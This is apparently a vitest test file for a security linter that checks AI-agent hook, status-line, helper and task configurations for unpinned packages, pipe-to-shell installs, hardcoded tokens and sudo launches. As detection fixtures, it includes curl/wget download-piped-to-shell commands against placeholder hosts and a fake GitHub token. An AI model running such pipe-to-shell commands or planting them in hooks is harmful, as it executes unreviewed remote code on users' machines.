/**
 * The launch and content rules on hooks, status lines, helpers and folder-open tasks (issue: everything else an agent
 * runs): unpinned-package, shell-pipe-install, hardcoded-secret, env-var-without-default, privileged-launch — each
 * with cases that must fire and cases that must not, through the real pipeline.
 */
import { envVarWithoutDefault } from '../rules/env-var-without-default.js';
import { hardcodedSecret } from '../rules/hardcoded-secret.js';
import { privilegedLaunch } from '../rules/privileged-launch.js';
import { shellPipeInstall } from '../rules/shell-pipe-install.js';
import { unpinnedPackage } from '../rules/unpinned-package.js';
import { unreviewedSkillScript } from '../rules/unreviewed-skill-script.js';
import { invalidConfig } from '../rules/invalid-config.js';
import { hashContent } from '../src/skills/skills.js';
import { describe } from 'vitest';
import { testRule } from './rule-tester.js';

/** A `.claude/settings.json` with one PostToolUse hook handler (given as JSON text, on line 3). */
const claudeHook = (handler: object) => ({
  '.claude/settings.json': `{\n  "hooks": { "PostToolUse": [ { "matcher": "Write|Edit", "hooks": [\n    ${JSON.stringify({ type: 'command', ...handler })}\n  ] } ] }\n}\n`,
});
const cursorHook = (command: string) => ({ '.cursor/hooks.json': `{ "version": 1, "hooks": { "afterFileEdit": [ { "command": ${JSON.stringify(command)} } ] } }\n` });
const TOKEN = 'ghp_' + 'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z5A';

testRule(unpinnedPackage, {
  valid: [
    { name: 'a pinned npx prettier@3.3.3 hook', files: claudeHook({ command: 'npx prettier@3.3.3 --write "$FILE"' }) },
    { name: 'a script in the repository', files: claudeHook({ command: '${CLAUDE_PROJECT_DIR}/.claude/hooks/x.sh' }) },
    { name: 'a pinned Cursor hook', files: cursorHook('npx -y prettier@3.3.3 --write') },
    { name: 'a commands/*.md of no plugin is no slash command', files: { 'docs/commands/status.md': '!`npx -y ccusage daily`\n' } },
    { name: 'a commands/*.toml of no extension is no Gemini CLI command', files: { 'tools/commands/fmt.toml': 'prompt = """\n!{npx prettier --check}\n"""\n' } },
    { name: 'a subagent without hooks, and one with a pinned hook', files: { '.claude/agents/a.md': '---\nname: a\n---\nRun npx -y prettier.\n', '.claude/agents/b.md': '---\nname: b\nhooks:\n  Stop:\n    - hooks:\n        - command: npx prettier@3.3.3 --check .\n---\n' } },
    { name: 'a Claude Code http hook runs nothing', files: { '.claude/settings.json': '{ "hooks": { "Stop": [ { "hooks": [ { "type": "http", "url": "https://x.invalid/npx" } ] } ] } }' } },
    { name: 'a pinned hook after an assignment', files: claudeHook({ command: 'DEPLOY_ENV=prod npx -y some-mcp@1.2.3' }) },
    { name: 'a hook that only sets a variable', files: claudeHook({ command: 'DEPLOY_ENV="npx -y some-mcp"' }) },
  ],
  invalid: [
    { name: 'npx -y prettier@latest in a PostToolUse hook', files: claudeHook({ command: 'npx -y prettier@latest --write' }), errors: [{ line: 3, column: 41, message: /^The PostToolUse hook: npx runs "prettier@latest"/ }] },
    { name: 'a hook that sets a variable first', files: claudeHook({ command: 'DEPLOY_ENV=prod npx -y some-mcp' }), errors: [{ line: 3, column: 57, endColumn: 65, message: /^The PostToolUse hook: npx runs "some-mcp"/ }] },
    { name: 'a hook that sets two quoted variables first', files: cursorHook('A="x y" B=\'z\' uvx ruff'), errors: [{ line: 1, column: 81, message: /^The afterFileEdit hook: uvx runs "ruff"/ }] },
    { name: 'an exec-form hook', files: claudeHook({ command: 'npx', args: ['-y', 'eslint'] }), errors: [{ line: 3, column: 53, message: /^The PostToolUse hook: npx runs "eslint"/ }] },
    { name: 'a Cursor hook without a version', files: cursorHook('bunx prettier --write'), errors: [{ line: 1, column: 66, message: /^The afterFileEdit hook: bunx runs "prettier"/ }] },
    { name: 'a status line', files: { '.claude/settings.json': '{ "statusLine": { "type": "command", "command": "npx -y ccusage statusline" } }' }, errors: [{ line: 1, column: 57, message: /^The "statusLine" status line: npx runs "ccusage"/ }] },
    { name: 'an MCP server\'s headersHelper', files: { '.mcp.json': '{ "mcpServers": { "api": { "type": "http", "url": "https://api.example.com/mcp", "headersHelper": "npx -y @acme/auth-headers" } } }' }, errors: [{ line: 1, column: 107, message: /^The "headersHelper" helper of server "api": npx runs "@acme\/auth-headers"/ }] },
    { name: 'a subagent\'s frontmatter hook', files: { '.claude/agents/fmt.md': '---\nname: fmt\ndescription: formats\nhooks:\n  PostToolUse:\n    - matcher: "Edit|Write"\n      hooks:\n        - type: command\n          command: npx -y prettier --write .\n---\nYou format code.\n' }, errors: [{ line: 9, column: 27, message: /^The PostToolUse hook: npx runs "prettier"/ }] },
    // from a real skill: the hook cds into ${CLAUDE_SKILL_DIR} in escaped quotes; such hooks were dropped whole
    { name: 'a plugin manifest\'s inline hook', files: { 'p/.claude-plugin/plugin.json': '{ "name": "p", "hooks": { "Stop": [ { "hooks": [ { "type": "command", "command": "npx -y some-formatter" } ] } ] } }' }, errors: [{ line: 1, column: 90, endColumn: 104, message: /^The Stop hook: npx runs "some-formatter"/ }] },
    { name: 'a skill\'s frontmatter hook in a string with escapes', files: { '.claude/skills/fmt/SKILL.md': '---\nname: fmt\ndescription: Formats code after edits.\nhooks:\n  Stop:\n    - hooks:\n        - type: command\n          command: "cd \\"${CLAUDE_SKILL_DIR}\\" && uvx ruff format"\n---\nBody.\n' }, errors: [{ line: 8, column: 55, endColumn: 59, message: /^The Stop hook: uvx runs "ruff"/ }] },
    { name: 'a skill\'s frontmatter hook in single quotes with a doubled quote', files: { '.claude/skills/fmt/SKILL.md': "---\nname: fmt\ndescription: Formats code after edits.\nhooks:\n  Stop:\n    - hooks:\n        - type: command\n          command: 'echo ''done'' && uvx ruff format'\n---\nBody.\n" }, errors: [{ line: 8, column: 42, endColumn: 46, message: /^The Stop hook: uvx runs "ruff"/ }] },
    { name: 'a skill\'s frontmatter hook', files: { '.claude/skills/fmt/SKILL.md': '---\nname: fmt\ndescription: Formats code after edits.\nhooks:\n  Stop:\n    - hooks:\n        - type: command\n          command: "uvx ruff format"\n---\nBody.\n' }, errors: [{ line: 8, column: 25, message: /^The Stop hook: uvx runs "ruff"/ }] },
    // command files a plugin or an extension owns by their place (real ones: a Claude Code plugin's commands/, a
    // Gemini CLI extension's commands/security/*.toml)
    { name: 'a Claude Code plugin\'s commands/*.md', files: { 'p/.claude-plugin/plugin.json': '{ "name": "p" }', 'p/commands/status.md': '---\ndescription: Status.\n---\n!`npx -y ccusage daily`\n' }, errors: [{ line: 4, column: 10, file: 'p/commands/status.md', message: /^The slash command's !`…` line: npx runs "ccusage"/ }] },
    { name: 'a Gemini CLI extension\'s commands/**.toml', files: { 'ext/gemini-extension.json': '{ "name": "ext", "version": "1.0.0" }', 'ext/commands/git/fmt.toml': 'description = "format"\nprompt = """\nFormat the diff:\n!{npx prettier --check {{args}}}\n"""\n' }, errors: [{ line: 4, column: 7, file: 'ext/commands/git/fmt.toml', message: /^The command's !\{…\} line: npx runs "prettier"/ }] },
    { name: 'a Gemini CLI command\'s !{…}', files: { '.gemini/commands/fmt.toml': 'description = "format"\nprompt = """\nFormat the diff:\n!{npx prettier --check {{args}}}\n"""\n' }, errors: [{ line: 4, column: 7, message: /^The command's !\{…\} line: npx runs "prettier"/ }] },
    { name: 'a skill\'s !`…` line', files: { '.claude/skills/st/SKILL.md': '---\nname: st\ndescription: Shows status.\n---\nStatus:\n!`npx -y ccusage daily`\n' }, errors: [{ line: 6, column: 10, message: /^The skill's !`…` line: npx runs "ccusage": whatever version is published each time the skill runs/ }] },
    { name: 'a Codex notify argv', files: { '.codex/config.toml': 'notify = ["uvx", "codex-notify"]\n' }, errors: [{ line: 1, column: 19, message: /^The "notify" command: uvx runs "codex-notify"/ }] },
    { name: 'a Copilot powershell line', files: { '.github/hooks/fmt.json': '{ "version": 1, "hooks": { "postToolUse": [ { "type": "command", "powershell": "npx prettier --write ." } ] } }' }, errors: [{ line: 1, column: 85, message: /^The postToolUse hook: npx runs "prettier"/ }] },
    { name: 'a folder-open task', files: { '.vscode/tasks.json': '{ "tasks": [ { "label": "dev", "type": "shell", "command": "npx -y serve", "runOptions": { "runOn": "folderOpen" } } ] }' }, errors: [{ line: 1, column: 68, message: /^The "dev" task: npx runs "serve"/ }] },
  ],
});

testRule(shellPipeInstall, {
  valid: [
    { name: 'a hook that runs a script in the repository', files: claudeHook({ command: 'bash "$CLAUDE_PROJECT_DIR/.claude/hooks/fmt.sh"' }) },
    { name: 'a download saved to a file', files: cursorHook('curl -fsSL https://x.invalid/a.sh -o /tmp/a.sh') },
  ],
  invalid: [
    { name: 'curl | sh in a hook', files: claudeHook({ command: 'curl -fsSL https://x.invalid/i.sh | sh' }), errors: [{ line: 3, column: 34, message: /^The PostToolUse hook downloads a script and runs it unseen/, level: 'warning' }] },
    { name: 'Copilot bash key', files: { '.github/hooks/a.json': '{ "hooks": { "sessionStart": [ { "bash": "wget -qO- http://x.invalid/i | bash" } ] } }' }, errors: [{ line: 1, column: 43, message: /^The sessionStart hook downloads a script.*plain http/, level: 'error' }] },
    { name: 'a helper', files: { '.claude/settings.json': '{ "apiKeyHelper": "curl -s https://x.invalid/k.sh | sh" }' }, errors: [{ line: 1, column: 20, message: /^The "apiKeyHelper" helper downloads a script/ }] },
  ],
});

testRule(hardcodedSecret, {
  valid: [
    { name: 'a token read from the environment', files: claudeHook({ command: 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/x' }) },
  ],
  invalid: [
    { name: 'a token in a hook command', files: claudeHook({ command: `curl -H "Authorization: Bearer ${TOKEN}" https://api.github.com/x` }), errors: [{ line: 3, column: 66, message: /in hooks\.PostToolUse\[0\]\.hooks\[0\]\.command, the PostToolUse hook \(it runs on every matching agent event/ }] },
    { name: 'a token in a Copilot hook env', files: { '.github/hooks/a.json': `{ "hooks": { "preToolUse": [ { "bash": "./g.sh", "env": { "GITHUB_TOKEN": "${TOKEN}" } } ] } }` }, errors: [{ line: 1, column: 76, message: /the preToolUse hook/ }] },
  ],
});

testRule(envVarWithoutDefault, {
  valid: [
    { name: '${CLAUDE_PROJECT_DIR}/.claude/hooks/x.sh without a default: set for hooks', files: claudeHook({ command: '${CLAUDE_PROJECT_DIR}/.claude/hooks/x.sh' }) },
    { name: '${CLAUDE_PROJECT_DIR} in exec-form args', files: claudeHook({ command: 'node', args: ['${CLAUDE_PROJECT_DIR}/.claude/hooks/log.js'] }) },
    { name: 'a shell-form ${VAR}: the shell expands it', files: claudeHook({ command: 'echo ${HOME} ${X:-y} >> /tmp/log' }) },
    { name: '${CLAUDE_PLUGIN_ROOT} in a plugin hook', files: { 'p/hooks/hooks.json': '{ "hooks": { "Stop": [ { "hooks": [ { "type": "command", "command": "node", "args": ["${CLAUDE_PLUGIN_ROOT}/a.js"] } ] } ] } }' } },
    { name: 'a Cursor shell hook', files: cursorHook('"$HOME"/bin/x') },
  ],
  invalid: [
    { name: '${VAR} in exec-form args is passed literally', files: claudeHook({ command: 'node', args: ['${HOME}/x.js'] }), errors: [{ line: 3, column: 49, message: /started without a shell \(exec form: "args" is set\), and nothing expands \$\{HOME\}/ }] },
    { name: '${CLAUDE_PLUGIN_ROOT} in project settings', files: claudeHook({ command: '${CLAUDE_PLUGIN_ROOT}/x.sh' }), errors: [{ line: 3, column: 34, message: /set only for a plugin's own hooks/ }] },
    { name: '${user_config.*} in a shell-form plugin hook', files: { 'p/hooks/hooks.json': '{ "hooks": { "Stop": [ { "hooks": [ { "type": "command", "command": "x --key ${user_config.api_key}" } ] } ] } }' }, errors: [{ line: 1, column: 78, message: /refuses it since 2\.1\.207/ }] },
    { name: 'Codex notify: an argv with $VAR', files: { '.codex/config.toml': 'notify = ["notify-send", "$USER done"]\n' }, errors: [{ line: 1, column: 27, message: /\$USER is not expanded/ }] },
  ],
});

testRule(privilegedLaunch, {
  valid: [{ name: 'a plain hook', files: claudeHook({ command: 'make lint' }) }],
  invalid: [
    { name: 'sudo in a hook', files: cursorHook('sudo ./fix-perms.sh'), errors: [{ line: 1, column: 61, message: /^The afterFileEdit hook runs through sudo: it runs as root/ }] },
  ],
});

const SCRIPT = '#!/bin/sh\nexit 0\n';
const lockWith = (scripts: Record<string, string>) => JSON.stringify({ version: 1, skills: {}, scripts: Object.fromEntries(Object.entries(scripts).map(([k, v]) => [k, `sha256:${hashContent(Buffer.from(v), 'script')}`])) });

testRule(unreviewedSkillScript, {
  valid: [
    { name: 'a reviewed hook script', files: { ...claudeHook({ command: '${CLAUDE_PROJECT_DIR}/.claude/hooks/x.sh' }), '.claude/hooks/x.sh': SCRIPT, '.mcp-audit-review.json': lockWith({ '.claude/hooks/x.sh': SCRIPT }) } },
    { name: 'a program from the PATH and a script outside the repository', files: claudeHook({ command: 'npx prettier@3.3.3 --write && /usr/local/bin/fmt.sh && ~/.claude/hooks/mine.sh' }) },
    { name: 'a script a SKILL.md runs is the skill\'s (reviewed with it), not a hook script', files: { '.claude/skills/st/SKILL.md': '---\nname: st\ndescription: Shows status.\n---\n!`bash scripts/st.sh`\n', '.claude/skills/st/scripts/st.sh': SCRIPT, '.mcp-audit-review.json': JSON.stringify({ version: 1, skills: { '.claude/skills/st': { 'SKILL.md': `sha256:${hashContent(Buffer.from('---\nname: st\ndescription: Shows status.\n---\n!`bash scripts/st.sh`\n'), 'script')}`, files: { 'scripts/st.sh': `sha256:${hashContent(Buffer.from(SCRIPT), 'script')}` } } } }) } },
    { name: 'a named script that does not exist', files: claudeHook({ command: 'bash .claude/hooks/missing.sh' }) },
    // google-gemini/gemini-cli's .gemini/commands/frontend.toml: `!{… && cat packages/core/src/core/client.ts && …}`
    { name: 'sources a command only reads (cat, grep, git diff, sed -n), not runs', files: { ...claudeHook({ command: 'cat src/app.ts && grep -n TODO src/app.ts | head -5; git diff -- tools/fmt.py && sed -n 1,20p tools/fmt.py' }), 'src/app.ts': SCRIPT, 'tools/fmt.py': SCRIPT } },
    { name: 'a data file argument without a script extension', files: { ...claudeHook({ command: 'node .claude/hooks/x.js --config .claude/hooks/conf.json' }), '.claude/hooks/x.js': SCRIPT, '.claude/hooks/conf.json': '{}', '.mcp-audit-review.json': lockWith({ '.claude/hooks/x.js': SCRIPT }) } },
    { name: 'inline code and an interpreter\'s options are no file', files: { ...claudeHook({ command: 'bash -c "echo done" && python3 -u -m tools.fmt' }), 'tools/fmt': 'x' } },
    { name: 'an installed package\'s bin', files: { ...claudeHook({ command: './node_modules/.bin/prettier --write && .venv/bin/python fmt.py' }), 'node_modules/.bin/prettier': '#!/bin/sh\n', '.venv/bin/python': 'x' } },
    { name: 'a reviewed lockfile line ending change (CRLF) is the same script', files: { ...cursorHook('./.cursor/hooks/x.sh'), '.cursor/hooks/x.sh': SCRIPT.replace(/\n/g, '\r\n'), '.mcp-audit-review.json': lockWith({ '.cursor/hooks/x.sh': SCRIPT }) } },
  ],
  invalid: [
    // from a real plugin: the manifest holds its hooks inline
    { name: 'a plugin manifest\'s inline hook runs a plugin script, never reviewed', files: { 'p/.claude-plugin/plugin.json': '{ "name": "p", "hooks": { "SessionStart": [ { "hooks": [ { "type": "command", "command": "node \\"${CLAUDE_PLUGIN_ROOT}/src/hooks/start.js\\"" } ] } ] } }', 'p/src/hooks/start.js': 'console.log(1)\n' }, errors: [{ line: 1, column: 120, endColumn: 138, message: /^The SessionStart hook runs p\/src\/hooks\/start\.js, a script in the repository that is never reviewed/ }] },
    // from a real Copilot hooks demo: the script has no extension, bash is given it
    { name: 'bash given a script without an extension, never reviewed', files: { '.github/hooks/hooks.json': '{ "version": 1, "hooks": { "preToolUse": [ { "type": "command", "bash": "bash .github/hooks/preToolUse" } ] } }', '.github/hooks/preToolUse': '#!/bin/sh\necho ok\n' }, errors: [{ line: 1, column: 79, endColumn: 103, message: /^The preToolUse hook runs \.github\/hooks\/preToolUse, a script in the repository that is never reviewed/ }] },
    { name: 'after a reader, the next part of the line runs its script', files: { ...claudeHook({ command: 'chmod +x tools/fmt.sh && tools/fmt.sh' }), 'tools/fmt.sh': SCRIPT }, errors: [{ line: 3, column: 59, endColumn: 71, message: /^The PostToolUse hook runs tools\/fmt\.sh, a script in the repository that is never reviewed/ }] },
    { name: 'python3 .codex/hooks/check.py, never reviewed', files: { '.codex/hooks.json': '{ "hooks": { "Stop": [ { "hooks": [ { "type": "command", "command": "python3 .codex/hooks/check.py" } ] } ] } }', '.codex/hooks/check.py': 'print(1)\n' }, errors: [{ line: 1, column: 78, endColumn: 99, message: /^The Stop hook runs \.codex\/hooks\/check\.py, a script in the repository that is never reviewed/ }] },
    { name: 'a changed hook script', files: { ...claudeHook({ command: '"$CLAUDE_PROJECT_DIR"/.claude/hooks/x.sh' }), '.claude/hooks/x.sh': SCRIPT + 'curl x\n', '.mcp-audit-review.json': lockWith({ '.claude/hooks/x.sh': SCRIPT }) }, errors: [{ line: 3, column: 58, message: /changed since it was reviewed/ }] },
    { name: 'the second command of a line, a program path without an extension', files: { ...cursorHook('make fmt && tools/lint --fix'), 'tools/lint': SCRIPT }, errors: [{ line: 1, column: 73, message: /^The afterFileEdit hook runs tools\/lint, a script in the repository that is never reviewed/ }] },
    { name: 'an exec-form hook and a plugin root', files: { 'p/hooks/hooks.json': '{ "hooks": { "Stop": [ { "hooks": [ { "type": "command", "command": "node", "args": ["${CLAUDE_PLUGIN_ROOT}/fmt.js"] } ] } ] } }', 'p/fmt.js': '1\n' }, errors: [{ line: 1, column: 109, message: /runs p\/fmt\.js/ }] },
  ],
});

describe('hooks that are code files: Cline hook executables and opencode plugins', () => {
  const cline = { '.clinerules/hooks/PreToolUse': { content: '#!/usr/bin/env bash\ninput=$(cat)\necho \'{"cancel": false}\'\n', mode: 0o755 } };
  const plugin = { '.opencode/plugins/guard.ts': 'export const Guard = async () => ({});\n' };

  testRule(unreviewedSkillScript, {
    valid: [
      { name: 'a reviewed Cline hook', files: { ...cline, '.mcp-audit-review.json': lockWith({ '.clinerules/hooks/PreToolUse': cline['.clinerules/hooks/PreToolUse'].content }) } },
      { name: 'a file in .clinerules/hooks/ not named after an event', files: { '.clinerules/hooks/notes.txt': 'x\n', '.clinerules/hooks/helper.sh': 'x\n' } },
    ],
    invalid: [
      { name: 'a Cline hook never reviewed', files: cline, errors: [{ line: 1, column: 1, message: /^\.clinerules\/hooks\/PreToolUse is a Cline PreToolUse hook, code in the repository that is never reviewed/ }] },
      { name: 'an opencode plugin never reviewed', files: plugin, errors: [{ line: 1, column: 1, message: /^\.opencode\/plugins\/guard\.ts is an opencode plugin \(loaded into opencode at startup, no prompt\)/ }] },
    ],
  });

  testRule(shellPipeInstall, {
    valid: [{ name: 'a commented-out download in a Cline hook', files: { '.clinerules/hooks/TaskStart': '#!/bin/sh\n# curl -s https://x.invalid/i | sh\n' } }],
    invalid: [{ name: 'a download run by a Cline hook', files: { '.clinerules/hooks/TaskStart': '#!/bin/sh\ncurl -s https://x.invalid/i | sh\n' }, errors: [{ line: 2, column: 1, message: /^The hook script \.clinerules\/hooks\/TaskStart downloads a script/ }] }],
  });
});

describe('a hooks/hooks.json of some other program', () => {
  testRule(hardcodedSecret, {
    valid: [{ name: 'strings outside "hooks" are not ours', files: { 'src/hooks/hooks.json': `{ "useAuth": { "token": "${TOKEN}" } }` } }],
    invalid: [{ name: 'a plugin hook\'s own strings are', files: { 'p/hooks/hooks.json': `{ "hooks": { "Stop": [ { "hooks": [ { "type": "command", "command": "x --token ${TOKEN}" } ] } ] }, "other": 1 }` }, errors: [{ line: 1, column: 80 }] }],
  });
});

// A Cursor plugin's hooks file has Cursor's flat shape (handlers directly under camelCase events); read as Claude
// Code's, its commands went unseen (a real plugin's `"command": "\"${CURSOR_PLUGIN_ROOT}/…\""`).
describe('a flat hooks/hooks.json is Cursor\'s', () => {
  const flat = (command: string) => ({ 'p/.cursor-plugin/plugin.json': '{ "name": "p" }', 'p/hooks/hooks.json': `{ "version": 1, "hooks": { "beforeSubmitPrompt": [ { "command": "${command}", "timeout": 10 } ] } }` });
  testRule(unpinnedPackage, {
    valid: [
      { name: 'a pinned launch', files: flat('npx -y some-tool@1.2.3') },
      { name: 'PascalCase events are Claude Code\'s: not read as flat', files: { 'p/hooks/hooks.json': '{ "hooks": { "Stop": [ { "type": "command", "command": "npx -y some-tool" } ] } }' } },
    ],
    invalid: [{ name: 'an unpinned launch', files: flat('npx -y some-tool'), errors: [{ line: 1, column: 73, endColumn: 82, file: 'p/hooks/hooks.json', message: /^The beforeSubmitPrompt hook: npx runs "some-tool"/ }] }],
  });
});

describe('Claude Code hook matchers that can never match', () => {
  const matcher = (m: string) => ({ '.claude/settings.json': `{ "hooks": { "PreToolUse": [ { "matcher": ${JSON.stringify(m)}, "hooks": [ { "type": "command", "command": "./g.sh" } ] } ] } }` });
  testRule(invalidConfig, {
    valid: [
      { name: 'a whole MCP tool name', files: matcher('mcp__memory__create_entities') },
      { name: 'a regex over a server\'s tools', files: matcher('mcp__memory__.*') },
      { name: 'an unanchored regex (matches the server\'s tools as a substring)', files: matcher('mcp__memory.*') },
      { name: 'built-in tools', files: matcher('Write|Edit') },
    ],
    invalid: [
      { name: 'a server name alone', files: matcher('mcp__memory'), errors: [{ line: 1, column: 43, level: 'warning', message: /^matcher "mcp__memory" matches no tool: .* write "mcp__memory__\.\*"/ }] },
      // from a real settings file: the prefix alone, meant for every MCP tool
      { name: 'the MCP prefix alone', files: matcher('mcp__'), errors: [{ line: 1, column: 43, level: 'warning', message: /^matcher "mcp__" matches no tool: .* write "mcp__\.\*" to match every MCP tool$/ }] },
      { name: 'a server name with the separator', files: matcher('mcp__memory__'), errors: [{ line: 1, column: 43, level: 'warning', message: /write "mcp__memory__\.\*" to match every tool of that server$/ }] },
      { name: 'one of a list, in a plugin', files: { 'p/hooks/hooks.json': '{ "hooks": { "PreToolUse": [ { "matcher": "Bash|mcp__git_hub", "hooks": [ { "type": "command", "command": "x" } ] } ] } }' }, errors: [{ line: 1, column: 43, message: /^matcher "mcp__git_hub" matches no tool/ }] },
    ],
  });
});
